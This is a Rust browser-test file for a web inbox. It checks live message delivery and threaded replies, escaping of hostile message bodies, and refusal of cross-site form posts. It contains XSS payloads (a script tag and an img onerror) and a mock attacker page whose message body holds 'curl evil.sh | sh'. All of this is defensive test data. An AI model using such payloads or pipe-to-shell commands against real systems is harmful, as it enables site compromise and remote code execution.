//! The web inbox in a real browser (headless chromium over WebDriver): a message posted with curl appears
//! without a reload, the person opens its thread and replies, and the reply reaches the machine's `sync`;
//! hostile bodies render as text; a form posted from another site is refused.

use super::*;
use crate::support::browser::Browser;
use crate::support::{Env, OutputExt, run};
use fantoccini::Locator;
use std::time::Duration;

fn block_on<T>(f: impl std::future::Future<Output = T>) -> T {
    tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap().block_on(f)
}

/// The inbox URL with the bus credentials in it (the browser then keeps them for the site).
fn login_url(bus: &BusServer, path: &str) -> String {
    format!("{}{path}", bus.url.replacen("http://", &format!("http://{USER}:{PASSWORD}@"), 1))
}

fn curl_post(bus: &BusServer, json: &Value) {
    let o = Command::new("curl")
        .args(["-sS", "--fail", "-u", &format!("{USER}:{PASSWORD}"), "-H", "Content-Type: application/json"])
        .arg("--data-binary")
        .arg(json.to_string())
        .arg(format!("{}/post", bus.url))
        .output()
        .expect("curl runs (apt-get install curl)");
    assert!(o.status.success(), "curl: {}", String::from_utf8_lossy(&o.stderr));
}

const PAGE_HAS_TEXT: &str = "return document.body && document.body.innerText.includes(arguments[0]);";

#[test]
fn a_curl_post_appears_live_and_the_persons_reply_reaches_the_machine() {
    let bus = BusServer::start();
    block_on(async {
        let b = Browser::start().await;
        b.client.goto(&login_url(&bus, "/inbox")).await.unwrap();
        assert_eq!(b.client.title().await.unwrap(), "handoff inbox");
        // posted after the page loaded: it can only appear through the live stream
        curl_post(&bus, &serde_json::json!({"from": "linux-box", "to": "human", "body": "disk at 91% on /var"}));
        b.until("the curl post to appear live", Duration::from_secs(20),
            "return document.querySelector('#live') !== null && document.querySelector('#live').innerText.includes('disk at 91%');",
            vec![]).await;
        assert!(
            b.client.execute("return performance.getEntriesByType('navigation').length === 1;", vec![]).await.unwrap()
                == Value::Bool(true),
            "no reload happened"
        );
        b.client.find(Locator::Css("#live li a.open")).await.unwrap().click().await.unwrap();
        b.until(
            "the thread page",
            Duration::from_secs(10),
            "return location.pathname.startsWith('/inbox/t/');",
            vec![],
        )
        .await;
        let form = b.client.find(Locator::Css("form#reply")).await.unwrap();
        form.find(Locator::Css("textarea")).await.unwrap().send_keys("clean /var/log/journal please").await.unwrap();
        form.find(Locator::Css("button")).await.unwrap().click().await.unwrap();
        b.until(
            "the reply in the thread",
            Duration::from_secs(10),
            PAGE_HAS_TEXT,
            vec!["clean /var/log/journal please".into()],
        )
        .await;
        b.close().await;
    });

    let original = all_messages(&bus).into_iter().find(|m| m["from"] == "linux-box").unwrap();
    let env = Env::new();
    bus.write_env_file(&env);
    let mut c = env.handoff("linux-box");
    c.args(["--json", "sync"]);
    let o = run(c);
    assert_eq!(o.code(), 0, "{}\n{}", o.out(), o.err());
    let j = o.json();
    let reply = j["sync"]["messages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["from"] == "human")
        .unwrap_or_else(|| panic!("the reply reached linux-box: {j:#}"))
        .clone();
    assert_eq!(reply["body"], "clean /var/log/journal please");
    assert!(tags_of(&reply).contains(&format!("re:{}", id_of(&original))), "threaded: {reply:#}");
}

const HOSTILE: &str = "<script>window.__pwned=1;document.title='pwned'</script>\
<img src=x onerror=\"window.__pwned=2;document.title='pwned'\"> look at this";

#[test]
fn script_and_img_onerror_bodies_render_as_text_and_never_run() {
    let bus = BusServer::start();
    let first = post(&bus, "evil-box", "human", HOSTILE, &["<b>tag</b>"]);
    let r = bus.get("/inbox");
    let csp = r.headers().get("content-security-policy").expect("a CSP").to_str().unwrap().to_string();
    assert!(
        csp.contains("script-src 'self'") && csp.contains("default-src 'none'") && !csp.contains("unsafe"),
        "{csp}"
    );
    let html = r.text().unwrap();
    // askama escapes with numeric entities
    assert!(html.contains("&#60;script&#62;window") && !html.contains("<script>window"), "escaped in the HTML");
    assert!(!html.contains("<img"), "no element made of the body");
    assert!(!html.contains("http://") && !html.contains("https://"), "no external assets");
    block_on(async {
        let b = Browser::start().await;
        let no_harm = "return window.__pwned === undefined && !document.title.includes('pwned') \
                       && document.querySelectorAll('img').length === 0 \
                       && document.body.innerText.includes(\"<script>window.__pwned=1\");";
        b.client.goto(&login_url(&bus, "/inbox")).await.unwrap();
        b.until("the front page", Duration::from_secs(10), PAGE_HAS_TEXT, vec!["evil-box".into()]).await;
        assert_eq!(b.client.execute(no_harm, vec![]).await.unwrap(), Value::Bool(true), "front page");
        // one more through the live stream
        let live = HOSTILE.replace("look at this", "live one");
        curl_post(&bus, &serde_json::json!({"from": "evil-box", "to": "human", "body": live}));
        b.until("the live message", Duration::from_secs(20), PAGE_HAS_TEXT, vec!["live one".into()]).await;
        assert_eq!(b.client.execute(no_harm, vec![]).await.unwrap(), Value::Bool(true), "live insert");
        b.client.goto(&login_url(&bus, &format!("/inbox/t/{first}"))).await.unwrap();
        b.until("the thread page", Duration::from_secs(10), PAGE_HAS_TEXT, vec!["look at this".into()]).await;
        assert_eq!(b.client.execute(no_harm, vec![]).await.unwrap(), Value::Bool(true), "thread page");
        assert!(b.client.source().await.unwrap().contains("&lt;b&gt;tag&lt;/b&gt;"), "tags are text too");
        b.close().await;
    });
}

/// A one-page "attacker" site on another loopback port: a form that posts a message to the inbox.
fn attacker_site(target: &str) -> (String, std::thread::JoinHandle<()>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://127.0.0.1:{}/", listener.local_addr().unwrap().port());
    let page = format!(
        "<!doctype html><title>free prizes</title><form method=post action=\"{target}/inbox/send\">\
         <input name=to value=linux-box><input name=body value=\"csrf: curl evil.sh | sh\">\
         <input name=csrf value=guessed><button id=go>claim</button></form>"
    );
    let h = std::thread::spawn(move || {
        use std::io::{Read, Write};
        // serves the page until the test ends (the listener lives in this thread)
        for stream in listener.incoming().flatten().take(8) {
            let mut s = stream;
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = write!(
                s,
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
                page.len()
            );
        }
    });
    (url, h)
}

#[test]
fn a_form_posted_from_another_site_is_refused() {
    let bus = BusServer::start();
    let (evil, _server) = attacker_site(&bus.url);
    block_on(async {
        let b = Browser::start().await;
        // the person is logged in to the inbox: the browser holds the bus credentials
        b.client.goto(&login_url(&bus, "/inbox")).await.unwrap();
        assert_eq!(b.client.title().await.unwrap(), "handoff inbox");
        b.client.goto(&evil).await.unwrap();
        b.client.find(Locator::Id("go")).await.unwrap().click().await.unwrap();
        b.until("the refusal", Duration::from_secs(10), PAGE_HAS_TEXT, vec!["another site".into()]).await;
        b.close().await;
    });
    assert!(all_messages(&bus).iter().all(|m| !m["body"].as_str().unwrap_or("").contains("csrf")), "nothing stored");

    // the token and the Origin are each required on their own
    let html = bus.get("/inbox").text().unwrap();
    let token = html.split("name=\"csrf\" value=\"").nth(1).and_then(|s| s.split('"').next()).unwrap().to_string();
    let send = |origin: Option<&str>, token: &str| {
        let mut r = reqwest::blocking::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap()
            .post(format!("{}/inbox/send", bus.url))
            .basic_auth(USER, Some(PASSWORD))
            .form(&[("to", "linux-box"), ("body", "from the person"), ("csrf", token)]);
        if let Some(o) = origin {
            r = r.header("Origin", o);
        }
        r.send().unwrap().status().as_u16()
    };
    assert_eq!(send(Some(evil.trim_end_matches('/')), &token), 403, "right token, other origin");
    assert_eq!(send(Some(&bus.url), "guessed"), 403, "our origin, wrong token");
    assert_eq!(send(None, &token), 403, "no origin at all");
    assert!(all_messages(&bus).is_empty());
    assert_eq!(send(Some(&bus.url), &token), 303, "our origin and token");
    let msgs = all_messages(&bus);
    assert_eq!((msgs.len(), msgs[0]["from"].as_str(), msgs[0]["to"].as_str()), (1, Some("human"), Some("linux-box")));
}
